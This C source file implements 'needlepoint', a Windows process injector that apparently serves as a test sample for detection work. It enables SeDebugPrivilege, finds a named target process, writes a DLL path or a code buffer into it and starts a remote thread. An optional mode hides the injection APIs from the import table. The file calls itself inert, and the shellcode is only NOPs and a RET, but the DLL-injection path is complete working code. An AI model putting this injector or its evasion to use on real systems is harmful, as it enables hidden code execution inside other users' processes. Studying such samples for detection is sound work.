/* needlepoint - process injector: enables SeDebugPrivilege, finds CFG_TARGET by name, writes the path
 * of CFG_INJECT_DLL (or a shellcode buffer) into it and starts a remote thread.  With
 * CFG_DYNAMIC_API (v3) every injection API is resolved from strings through GetProcAddress, so none
 * of them is in the import table.  Inert: see common/inert.h; the "shellcode" is NOPs and a RET. */
#include <windows.h>
#include <tlhelp32.h>
#include "config.h"
#include "../../common/inert.h"

/* not code that does anything: NOP sled and RET, standing in for a shellcode blob */
static const unsigned char blob[] = {
    0x90, 0x90, 0x90, 0x90, 0x90, 0x90, 0x90, 0x90, 0x90, 0x90, 0x90, 0x90, 0x90, 0x90, 0x90, 0xc3
};

typedef HANDLE(WINAPI *fn_OpenProcess)(DWORD, BOOL, DWORD);
typedef LPVOID(WINAPI *fn_VirtualAllocEx)(HANDLE, LPVOID, SIZE_T, DWORD, DWORD);
typedef BOOL(WINAPI *fn_WriteProcessMemory)(HANDLE, LPVOID, LPCVOID, SIZE_T, SIZE_T *);
typedef HANDLE(WINAPI *fn_CreateRemoteThread)(HANDLE, LPSECURITY_ATTRIBUTES, SIZE_T,
                                              LPTHREAD_START_ROUTINE, LPVOID, DWORD, LPDWORD);
typedef HANDLE(WINAPI *fn_CreateToolhelp32Snapshot)(DWORD, DWORD);
typedef BOOL(WINAPI *fn_Process32)(HANDLE, LPPROCESSENTRY32);

static fn_OpenProcess pOpenProcess;
static fn_VirtualAllocEx pVirtualAllocEx;
static fn_WriteProcessMemory pWriteProcessMemory;
static fn_CreateRemoteThread pCreateRemoteThread;
static fn_CreateToolhelp32Snapshot pCreateToolhelp32Snapshot;
static fn_Process32 pProcess32First, pProcess32Next;

static int resolve(void)
{
#ifdef CFG_DYNAMIC_API
    HMODULE k32 = LoadLibraryA(CFG_API_K32);
    if (k32 == NULL)
        return 0;
    pOpenProcess = (fn_OpenProcess)(void *)GetProcAddress(k32, CFG_API_OP);
    pVirtualAllocEx = (fn_VirtualAllocEx)(void *)GetProcAddress(k32, CFG_API_VAE);
    pWriteProcessMemory = (fn_WriteProcessMemory)(void *)GetProcAddress(k32, CFG_API_WPM);
    pCreateRemoteThread = (fn_CreateRemoteThread)(void *)GetProcAddress(k32, CFG_API_CRT);
    pCreateToolhelp32Snapshot = (fn_CreateToolhelp32Snapshot)(void *)GetProcAddress(k32, CFG_API_SNAP);
    pProcess32First = (fn_Process32)(void *)GetProcAddress(k32, CFG_API_P32F);
    pProcess32Next = (fn_Process32)(void *)GetProcAddress(k32, CFG_API_P32N);
#else
    pOpenProcess = OpenProcess;
    pVirtualAllocEx = VirtualAllocEx;
    pWriteProcessMemory = WriteProcessMemory;
    pCreateRemoteThread = CreateRemoteThread;
    pCreateToolhelp32Snapshot = CreateToolhelp32Snapshot;
    pProcess32First = Process32First;
    pProcess32Next = Process32Next;
#endif
    return pOpenProcess && pVirtualAllocEx && pWriteProcessMemory && pCreateRemoteThread &&
           pCreateToolhelp32Snapshot && pProcess32First && pProcess32Next;
}

static void debug_privilege(void)
{
    HANDLE token;
    TOKEN_PRIVILEGES tp;
    if (!OpenProcessToken(GetCurrentProcess(), TOKEN_ADJUST_PRIVILEGES | TOKEN_QUERY, &token))
        return;
    tp.PrivilegeCount = 1;
    tp.Privileges[0].Attributes = SE_PRIVILEGE_ENABLED;
    if (LookupPrivilegeValueA(NULL, CFG_PRIV, &tp.Privileges[0].Luid))
        AdjustTokenPrivileges(token, FALSE, &tp, sizeof tp, NULL, NULL);
    CloseHandle(token);
}

static DWORD find_target(void)
{
    PROCESSENTRY32 pe;
    DWORD pid = 0;
    HANDLE snap = pCreateToolhelp32Snapshot(TH32CS_SNAPPROCESS, 0);
    if (snap == INVALID_HANDLE_VALUE)
        return 0;
    pe.dwSize = sizeof pe;
    if (pProcess32First(snap, &pe)) {
        do {
            if (lstrcmpiA(pe.szExeFile, CFG_TARGET) == 0) {
                pid = pe.th32ProcessID;
                break;
            }
        } while (pProcess32Next(snap, &pe));
    }
    CloseHandle(snap);
    return pid;
}

static int inject(DWORD pid, const void *data, SIZE_T len, int as_code)
{
    char line[256];
    LPVOID remote;
    HANDLE proc, thread;
    LPTHREAD_START_ROUTINE start;
    proc = pOpenProcess(PROCESS_ALL_ACCESS, FALSE, pid);
    if (proc == NULL)
        return 0;
    remote = pVirtualAllocEx(proc, NULL, len, MEM_COMMIT | MEM_RESERVE,
                             as_code ? PAGE_EXECUTE_READWRITE : PAGE_READWRITE);
    if (remote == NULL || !pWriteProcessMemory(proc, remote, data, len, NULL)) {
        CloseHandle(proc);
        return 0;
    }
    start = as_code ? (LPTHREAD_START_ROUTINE)remote
                    : (LPTHREAD_START_ROUTINE)(void *)GetProcAddress(GetModuleHandleA("kernel32.dll"),
                                                                    CFG_LOADLIB);
    thread = pCreateRemoteThread(proc, NULL, 0, start, as_code ? NULL : remote, 0, NULL);
    wsprintfA(line, CFG_LOG_FMT, pid, as_code ? "blob" : CFG_INJECT_DLL, (DWORD)len);
    OutputDebugStringA(line);
    if (thread)
        CloseHandle(thread);
    CloseHandle(proc);
    return thread != NULL;
}

static int family_run(void)
{
    char dll[MAX_PATH];
    DWORD pid;
    HANDLE pipe, mutex = CreateMutexA(NULL, FALSE, CFG_MUTEX);
    if (mutex == NULL || GetLastError() == ERROR_ALREADY_EXISTS || !resolve())
        return 1;
    debug_privilege();
    pid = find_target();
    if (pid == 0)
        return 2;
    pipe = CreateNamedPipeA(CFG_PIPE, PIPE_ACCESS_DUPLEX, PIPE_TYPE_MESSAGE, 1, 4096, 4096, 0, NULL);
    ExpandEnvironmentStringsA(CFG_INJECT_DLL, dll, sizeof dll);
    if (!inject(pid, dll, (SIZE_T)lstrlenA(dll) + 1, 0))
        inject(pid, blob, sizeof blob, 1);
    if (pipe != INVALID_HANDLE_VALUE)
        CloseHandle(pipe);
    return 0;
}

#include "../../common/winentry.h"
